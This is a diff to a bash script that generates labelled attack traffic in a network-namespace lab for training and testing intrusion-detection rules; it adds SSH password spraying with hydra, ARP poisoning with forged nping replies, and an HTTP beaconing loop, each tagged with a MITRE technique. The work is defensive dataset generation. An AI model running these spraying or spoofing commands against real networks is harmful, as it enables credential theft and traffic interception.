@@ -9,6 +9,7 @@
 #   SC_BOUND      seconds after which the command is killed
 #   SC_CMD        the bash command run inside SC_NS
 #   SC_PARAMS     "name=value ..." of every seed-derived parameter (param appends to it)
+#   SC_TECHNIQUE  the MITRE technique its rule must name, when not its class's (CLASS_MITRE)
 # Every parameter comes from the seed: param draws it from the split's range, so training and
 # held-out runs differ in seeds and in parameter ranges. Same SPLIT, SEED and scenario → same
 # parameters and the same generated inputs (wordlists, query names, URL lists).
@@ -90,6 +91,7 @@ declare -gA SCENARIO_RULES=(
   [flood_syn_spoofed]=syn_flood [flood_udp_spoofed]=udp_flood [flood_icmp_spoofed]=icmp_flood
   [hydra_ssh]=brute_force [hydra_ftp]=brute_force [slowloris]=slow_http [slowread]=slow_http
   [sqlmap]=- [dns_tunnel]=dns_tunnel
+  [spray_ssh]=credential_spraying [arp_spoof]=arp_spoof [beacon_http]=beaconing
 )
 
 BENIGN_SCENARIOS="benign_web benign_download benign_ssh benign_dns benign_ftp benign_iperf3"
@@ -97,6 +99,8 @@ ATTACK_SCENARIOS="nmap_syn nmap_connect nmap_fin nmap_xmas nmap_udp nmap_sweep
   flood_syn flood_udp flood_icmp flood_syn_spoofed flood_udp_spoofed flood_icmp_spoofed
   hydra_ssh hydra_ftp slowloris slowread sqlmap dns_tunnel"
 ALL_SCENARIOS="$BENIGN_SCENARIOS $ATTACK_SCENARIOS"
+# Attacks with a behavioural rule and no ML class: in no dataset, only in the rules' live test.
+RULE_SCENARIOS="spray_ssh arp_spoof beacon_http"
 
 SSH_OPTS="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=5"
 DIG="dig @$VICTIM_IP +time=1 +tries=1"
@@ -372,6 +376,43 @@ sc_dns_tunnel() {
   paste -d. "$WORK"/chunk* | awk -v t="$P_qtype" '{ print $0 ".t.lab.test " t }' |
     split -l "$P_batch" - "$WORK/batch."
   SC_CMD="for f in $WORK/batch.*; do $DIG +short -f \$f >/dev/null; sleep 0.\$(printf %03d $P_pause_ms); done"
+}
+
+# ---- Rules only (RULE_SCENARIOS) ----------------------------------------------------------------
+
+# One wrong password for one user on each sshd address of the server farm (FARM_HOSTS).
+sc_spray_ssh() {
+  SC_CLASS=BruteForce SC_TECHNIQUE=T1110.003 SC_BOUND=60
+  attacker
+  param hosts 10-12 10-12 12-12
+  printf '%s\n' $FARM_HOSTS | head -n "$P_hosts" >"$WORK/hosts.txt"
+  rng_words password 1 10 >"$WORK/password.txt"
+  SC_CMD="cd $WORK && hydra -I -t 1 -l $LAB_USER -P password.txt -M hosts.txt ssh >/dev/null"
+}
+
+# ARP poisoning of the gateway: the client resolves the sensor (its ARP request, before a web
+# request, tells the sensor its MAC), then the attacker broadcasts ARP replies giving the
+# client's address its own MAC (nping). (nsenter keeps the host's /sys: the MAC comes from ip.)
+sc_arp_spoof() {
+  SC_CLASS=ARPSpoof SC_TECHNIQUE=T1557.002 SC_BOUND=20
+  attacker
+  param replies 3-6 3-6 3-6
+  SC_CMD="nsenter --net=/run/netns/$NS_CLIENT ip neigh flush dev $HOST_IF &&
+    nsenter --net=/run/netns/$NS_CLIENT curl -s -m 2 -o /dev/null http://$VICTIM_IP/ && sleep 1 &&
+    nping --arp --arp-type ARP-reply --arp-sender-mac \$(ip -br link show $HOST_IF | awk '{print \$3}') \
+      --arp-sender-ip $CLIENT_IP --arp-target-mac ff:ff:ff:ff:ff:ff --arp-target-ip $SENSOR_LAN_IP \
+      --dest-mac ff:ff:ff:ff:ff:ff -e $HOST_IF -c $P_replies --delay 500ms -q $SENSOR_LAN_IP"
+}
+
+# An implant polling its command server at a fixed interval.
+sc_beacon_http() {
+  SC_CLASS=Beaconing SC_TECHNIQUE=T1071 SC_BOUND=40
+  attacker
+  param polls 10-12 10-12 10-10
+  param interval_ms 1200-2000 1200-2000 1500-1500
+  local pause
+  pause=$(printf '%d.%03d' $((P_interval_ms / 1000)) $((P_interval_ms % 1000)))
+  SC_CMD="for i in \$(seq $P_polls); do curl -s -m 1 -o /dev/null http://$VICTIM_IP/; sleep $pause; done"
 }
 
 # ---- Benign background --------------------------------------------------------------------------
